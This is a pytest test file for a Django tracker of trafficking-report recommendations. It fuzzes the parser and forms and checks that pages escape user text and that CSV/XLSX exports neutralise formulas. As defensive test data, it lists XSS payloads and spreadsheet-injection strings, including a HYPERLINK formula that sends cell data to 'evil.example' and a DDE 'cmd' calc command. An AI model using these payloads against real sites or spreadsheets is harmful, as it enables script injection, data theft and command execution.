"""Fuzzed and hostile input: the parser fails only with its own error, forms refuse bad values
with a message, and user text is always shown escaped and exported inert."""

import csv
import datetime
import io
import string

import pytest
from django.utils import timezone
from django.utils.html import escape
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from reports import services as report_services
from tests.conftest import SEED
from tests.factories import RecommendationFactory, ReportFactory
from tiptracker.lib import spreadsheets
from tracker import importer, services, tipreport
from tracker.forms import EvidenceForm, StatusForm
from tracker.models import Evidence, Recommendation

SEED_TEXT = SEED.read_text(encoding="utf-8")
FUZZ = settings(max_examples=100, deadline=None, database=None)
DB_FUZZ = settings(
    max_examples=15,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Lines a narrative is made of, so generated texts reach past the first checks of the parser.
NARRATIVE_LINES = [
    "2021 Trafficking in Persons Report: North Korea",
    "DEMOCRATIC PEOPLE’S REPUBLIC OF KOREA: Tier 3",
    "Korea, Democratic People's Republic of (Tier 3)",
    "SYRIA: Special Case",
    "GAMBIA: Tier 2 Watch List",
    "PRIORITIZED RECOMMENDATIONS:",
    "PRIORITIZED RECOMMENDATIONS",
    "PROSECUTION",
    "PROTECTION",
    "PREVENTION",
    "TRAFFICKING PROFILE",
    "GOVERNMENT EFFORTS",
    "• Criminalize sex trafficking and labor trafficking.",
    "•",
    "Investigate and prosecute trafficking cases; and",
    "therefore North Korea remained on Tier 3.",
    "The government did not report any law enforcement efforts.",
    "",
    "   ",
    "\f",
]

line = st.sampled_from(NARRATIVE_LINES) | st.text(max_size=80)
narrative_like = st.lists(line, max_size=40).map("\n".join)
optional_year = st.none() | st.integers(min_value=-10, max_value=10_000)
optional_name = st.none() | st.text(max_size=30) | st.sampled_from(["North Korea", "DPRK"])
optional_tier = st.none() | st.text(max_size=20) | st.sampled_from(["tier_3", "Tier 2"])


def _parse_or_refuse(text: str, **overrides):
    """Parse `text`; return the narrative, or None when the parser refused it properly."""
    try:
        narrative = tipreport.parse_narrative(text, name="fuzz.txt", **overrides)
    except tipreport.NarrativeError as exc:
        assert str(exc), "a refusal must say why"
        return None
    assert isinstance(narrative, tipreport.Narrative)
    assert narrative.tier in tipreport.TIER_CODES
    assert all(isinstance(item, str) and item for item in narrative.recommendations)
    return narrative


@FUZZ
@given(st.text())
@example("")
@example("\x00\x00")
@example("PRIORITIZED RECOMMENDATIONS:")
def test_the_parser_fails_only_with_its_own_error_on_any_text(text):
    _parse_or_refuse(text)


@FUZZ
@given(narrative_like, optional_year, optional_name, optional_tier)
def test_the_parser_fails_only_with_its_own_error_on_narrative_like_text(text, year, country, tier):
    _parse_or_refuse(text, year=year, country=country, tier=tier)


@FUZZ
@given(st.data())
def test_the_parser_survives_damage_to_the_real_narrative(data):
    text = SEED_TEXT
    for _ in range(data.draw(st.integers(min_value=1, max_value=5))):
        start = data.draw(st.integers(min_value=0, max_value=len(text)))
        end = data.draw(st.integers(min_value=start, max_value=min(len(text), start + 400)))
        text = text[:start] + data.draw(st.sampled_from(NARRATIVE_LINES) | st.text()) + text[end:]
    _parse_or_refuse(text)


@FUZZ
@given(st.binary(max_size=2000))
@example(b"\xff\xfe")
@example(b"\xfe\xff\x00")
@example(b"\xef\xbb\xbf")
@example(b"\xff\xfe" + "PROSECUTION".encode("utf-16-le")[:-1])
def test_decoding_fails_only_with_its_own_error_on_any_bytes(data):
    try:
        text = tipreport.decode_narrative(data, name="fuzz.bin")
    except tipreport.NarrativeError:
        return
    assert isinstance(text, str) and text.strip()
    _parse_or_refuse(text)


@FUZZ
@given(st.binary(max_size=300))
def test_the_real_narrative_with_binary_noise_is_decoded_or_refused(noise):
    data = SEED.read_bytes()
    try:
        text = tipreport.decode_narrative(data[:500] + noise + data[500:], name="noisy.txt")
    except tipreport.NarrativeError:
        return
    _parse_or_refuse(text)


def test_the_importer_turns_parser_refusals_into_its_own_message():
    with pytest.raises(importer.ImportRefused, match="broken.txt"):
        importer.parse_bytes(b"\x00\x01\x02 not a narrative", name="broken.txt")


# Forms


def _status_form(**data):
    values = {
        "status": Recommendation.Status.IN_PROGRESS,
        "reason": "A UN report describes the first prosecutions.",
        "effective_date": "2021-02-01",
        "version": "1",
        **data,
    }
    return StatusForm(values, evidence_queryset=Evidence.objects.none())


def _date_or_none(value: str):
    """Return the date an ISO-like string names, or None when it names none."""
    try:
        return datetime.date.fromisoformat(value.strip())
    except ValueError:
        return None


@pytest.mark.django_db
@DB_FUZZ
@given(
    st.text(max_size=30) | st.sampled_from(["2021-02-30", "2021-13-01", "0000-01-01", "tomorrow"])
)
@example("2021-02-30")
@example("31/02/2021")
@example("9999-12-31")
def test_the_status_form_refuses_malformed_or_future_dates_with_a_message(value):
    form = _status_form(effective_date=value)
    if form.is_valid():
        day = form.cleaned_data["effective_date"]
        assert isinstance(day, datetime.date)
        assert day <= timezone.localdate()
    else:
        assert form.errors["effective_date"]
        assert all(message.strip() for message in form.errors["effective_date"])


@pytest.mark.django_db
@DB_FUZZ
@given(st.text(min_size=1, max_size=25))
def test_the_status_form_refuses_any_status_outside_the_vocabulary(value):
    assume(value not in Recommendation.Status.values)
    form = _status_form(status=value)
    assert not form.is_valid()
    assert "is not one of the available choices" in form.errors["status"][0]


@pytest.mark.django_db
@pytest.mark.parametrize("version", ["", "0", "-1", "one", "1.5", "1e3"])
def test_the_status_form_refuses_a_malformed_version(version):
    form = _status_form(version=version)
    assert not form.is_valid()
    assert form.errors["version"]


@pytest.mark.django_db
@pytest.mark.parametrize("version", ["9" * 40, str(2**63), "-" + "9" * 30])
def test_an_out_of_range_version_is_refused_without_a_server_error(version, analyst_client):
    recommendation = RecommendationFactory()
    response = analyst_client.post(
        f"/recommendations/{recommendation.pk}/status/",
        {
            "status": Recommendation.Status.IN_PROGRESS,
            "reason": "Reported by an NGO.",
            "effective_date": "2021-01-01",
            "version": version,
        },
    )
    assert 400 <= response.status_code < 500
    assert not recommendation.status_changes.exists()
    recommendation.refresh_from_db()
    assert recommendation.status == Recommendation.Status.NO_ACTION


@pytest.mark.django_db
def test_the_status_form_requires_a_reason():
    form = _status_form(reason="   ")
    assert not form.is_valid()
    assert form.errors["reason"] == ["This field is required."]


def _evidence_form(recommendation, **data):
    values = {
        "title": "Report of the Special Rapporteur",
        "source_type": Evidence.SourceType.UN,
        "direction": Evidence.Direction.NO_CHANGE,
        "sensitivity": Evidence.Sensitivity.PUBLIC,
        "recommendations": [str(recommendation.pk)],
        **data,
    }
    return EvidenceForm(
        values, recommendation_queryset=Recommendation.objects.filter(pk=recommendation.pk)
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("title", "x" * 301, "at most 300 characters"),
        ("source_name", "x" * 201, "at most 200 characters"),
        ("url", "https://example.org/" + "a" * 500, "at most 500 characters"),
        ("url", "javascript:alert(1)", "Enter a valid URL"),
        ("url", "data:text/html,<script>alert(1)</script>", "Enter a valid URL"),
        ("source_type", "pamphlet", "not one of the available choices"),
        ("direction", "sideways", "not one of the available choices"),
        ("sensitivity", "secret", "not one of the available choices"),
        ("published_on", "2021-02-30", "Enter a valid date"),
        ("published_on", "9999-01-01", "cannot be in the future"),
        ("accessed_on", "not a date", "Enter a valid date"),
        ("recommendations", ["999999"], "not one of the available choices"),
        ("recommendations", ["<script>"], "is not a valid value"),
        ("title", "", "This field is required"),
    ],
)
def test_the_evidence_form_refuses_bad_values_with_a_message(field, value, message):
    recommendation = RecommendationFactory()
    form = _evidence_form(recommendation, **{field: value})
    assert not form.is_valid()
    assert message in " ".join(form.errors[field])


@pytest.mark.django_db
@DB_FUZZ
@given(title=st.text(max_size=400), url=st.text(max_size=60))
def test_the_evidence_form_never_accepts_an_oversized_title_or_a_non_web_url(title, url):
    recommendation = RecommendationFactory()
    form = _evidence_form(recommendation, title=title, url=url)
    if form.is_valid():
        assert 0 < len(form.cleaned_data["title"]) <= 300
        cleaned_url = form.cleaned_data["url"]
        assert cleaned_url == "" or cleaned_url.startswith(("http://", "https://", "ftp://"))
    else:
        assert any(form.errors.get(name) for name in ("title", "url"))


# Escaping of user text in pages

PAYLOADS = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><script>steal()</script>",
    "' onmouseover='alert(1)",
    "{{ request.user.password }}{% csrf_token %}",
    "<svg onload=alert(1)>&amp;",
]


def _assert_escaped(html: str, payload: str) -> None:
    assert escape(payload) in html
    if escape(payload) != payload:
        assert payload not in html


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_evidence_text_and_reasons_are_shown_escaped(payload, analyst, analyst_client):
    recommendation = RecommendationFactory(text=f"Recommendation {payload}")
    evidence = services.evidence_log(
        by=analyst,
        title=f"Title {payload}",
        summary=f"Summary {payload}",
        quote=f"Quote {payload}",
        source_name=f"Source {payload}"[:200],
        source_type=Evidence.SourceType.NGO,
        direction=Evidence.Direction.NO_CHANGE,
        sensitivity=Evidence.Sensitivity.PUBLIC,
        recommendations=[recommendation],
    )
    services.recommendation_set_status(
        recommendation=recommendation,
        status=Recommendation.Status.IN_PROGRESS,
        reason=f"Reason {payload}",
        by=analyst,
        evidence=[evidence],
    )
    detail = analyst_client.get(f"/evidence/{evidence.public_id}/").content.decode()
    for text in (f"Title {payload}", f"Summary {payload}", f"Quote {payload}"):
        _assert_escaped(detail, text)
    listing = analyst_client.get("/evidence/").content.decode()
    _assert_escaped(listing, f"Title {payload}")
    page = analyst_client.get(f"/recommendations/{recommendation.pk}/").content.decode()
    for text in (f"Reason {payload}", f"Title {payload}", f"Recommendation {payload}"):
        _assert_escaped(page, text)
    assert "steal()</script>" not in page and "<script>alert" not in page


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_narrative_text_is_shown_escaped(payload, viewer_client):
    report = ReportFactory(
        introduction=f"Introduction {payload}",
        sections={"prosecution": f"Prosecution {payload}"},
    )
    RecommendationFactory(report=report, text=f"Recommendation {payload}")
    html = viewer_client.get(f"/reports/{report.pk}/").content.decode()
    _assert_escaped(html, f"Recommendation {payload}")
    assert "<script>alert" not in html and "steal()</script>" not in html


@pytest.mark.django_db
@DB_FUZZ
@given(title=st.text(alphabet=string.printable + "<>&\"'", min_size=1, max_size=60))
def test_any_evidence_title_round_trips_escaped(title, analyst, analyst_client):
    # Markers around the text, so a lone "<" is not found in the page's own markup.
    title = f"QZ{title}ZQ"
    recommendation = RecommendationFactory()
    evidence = services.evidence_log(
        by=analyst,
        title=title,
        source_type=Evidence.SourceType.MEDIA,
        direction=Evidence.Direction.PROGRESS,
        sensitivity=Evidence.Sensitivity.PUBLIC,
        recommendations=[recommendation],
    )
    html = analyst_client.get(f"/evidence/{evidence.public_id}/").content.decode()
    assert escape(title) in html
    if escape(title) != title:
        assert title not in html


# Exports neutralise spreadsheet formulas

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@FUZZ
@given(st.sampled_from("=+-@\t\r"), st.text(max_size=40))
def test_a_cell_starting_with_a_formula_character_is_neutralised(first, rest):
    value = spreadsheets.neutralise(first + rest)
    assert value == "'" + first + rest


@FUZZ
@given(st.text(max_size=40))
def test_a_cell_not_starting_with_a_formula_character_is_unchanged(value):
    assume(not value.startswith(("=", "+", "-", "@", "\t", "\r")))
    assert spreadsheets.neutralise(value) == value


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_the_recommendation_csv_neutralises_formulas_in_user_and_narrative_text(
    formula, viewer_client
):
    from django.contrib.auth import get_user_model

    owner = get_user_model().objects.create_user(username=f"@owner{len(formula)}")
    RecommendationFactory(text=formula, owner=owner)
    response = viewer_client.get("/recommendations/?format=csv")
    assert response.status_code == 200
    header, *rows = _csv_rows(response)
    (row,) = rows
    record = dict(zip(header, row, strict=True))
    texts = [cell for cell in row if formula.strip() in cell]
    assert texts == ["'" + formula]
    assert record[next(h for h in header if h.lower() == "owner")] == "'" + owner.username
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def _formula_cells_in_xlsx(content: bytes) -> list[str]:
    """Return the cells a spreadsheet would evaluate (text cells, whatever they hold, are not)."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_xlsx_formula_check_finds_a_formula_cell():
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["B2"] = '=HYPERLINK("http://evil.example")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert _formula_cells_in_xlsx(buffer.getvalue()) == ["Sheet!B2"]


@pytest.mark.django_db
def test_the_recommendation_xlsx_holds_no_formula_from_user_text(viewer_client):
    for formula in FORMULAS:
        RecommendationFactory(text=formula)
    response = viewer_client.get("/recommendations/?format=xlsx")
    assert response.status_code == 200
    assert _formula_cells_in_xlsx(response.content) == []


@pytest.fixture
def hostile_summary(db, analyst):
    """A 2021 narrative whose recommendations and evidence carry formulas and markup."""
    report = ReportFactory(year=2021)
    for number, text in enumerate([*FORMULAS, *PAYLOADS], start=1):
        recommendation = RecommendationFactory(report=report, number=number, text=text)
        services.evidence_log(
            by=analyst,
            title=f"=cmd|'/C calc'!A0 {PAYLOADS[0]}",
            source_type=Evidence.SourceType.NGO,
            direction=Evidence.Direction.REGRESSION,
            sensitivity=Evidence.Sensitivity.PUBLIC,
            recommendations=[recommendation],
        )
    return report


def test_the_summary_csv_neutralises_formulas(hostile_summary, viewer_client):
    slug = hostile_summary.country.slug
    response = viewer_client.get(f"/summaries/2021/{slug}/?format=csv")
    assert response.status_code == 200
    content = response.getvalue()
    header, *rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(cell.startswith("-") and not _is_number(cell) for cell in cells)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_summary_xlsx_holds_no_formula_from_user_text(hostile_summary, viewer_client):
    slug = hostile_summary.country.slug
    response = viewer_client.get(f"/summaries/2021/{slug}/?format=xlsx")
    assert response.status_code == 200
    assert _formula_cells_in_xlsx(response.content) == []


def test_the_summary_page_shows_recommendation_text_escaped(hostile_summary, viewer_client):
    slug = hostile_summary.country.slug
    html = viewer_client.get(f"/summaries/2021/{slug}/").content.decode()
    for payload in PAYLOADS:
        _assert_escaped(html, payload)
    assert "<script>alert" not in html and "<svg onload" not in html


def test_a_published_summary_is_shown_escaped(hostile_summary, reviewer, reviewer_client):
    published = report_services.summary_publish(
        year=2021, country=hostile_summary.country, by=reviewer
    )
    html = reviewer_client.get(f"/summaries/published/{published.pk}/").content.decode()
    assert escape(PAYLOADS[0]) in html
    assert "<script>alert" not in html and "<svg onload" not in html
